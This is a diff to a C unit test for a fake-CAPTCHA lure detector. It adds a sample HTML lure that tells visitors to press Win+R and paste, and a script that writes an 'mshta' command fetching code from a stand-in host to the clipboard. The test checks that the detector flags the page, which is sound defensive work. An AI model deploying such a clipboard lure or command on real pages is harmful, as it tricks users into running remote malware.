@@ -47,6 +47,13 @@ static void test_fake_captcha(void **state)
     assert_true(hits_has(h, "LURE_RUN_COMMAND"));
     assert_true(hits_has(h, "LURE_PASTED_COMMAND"));
     hits_free(h);
+    /* one reporting word on the lure page itself does not make it a report */
+    h = lure_hits("<p>This check protects you from scams.</p><h2>Verify you are human</h2>"
+                  "<li>Press Win + R</li><li>Press Ctrl + V</li><script>navigator.clipboard."
+                  "writeText('mshta https://example.invalid/c')</script>");
+    assert_true(hits_has(h, "LURE_FAKE_CAPTCHA"));
+    assert_true(hits_has(h, "LURE_PASTED_COMMAND"));
+    hits_free(h);
 }
 
 static void test_not_a_lure(void **state)
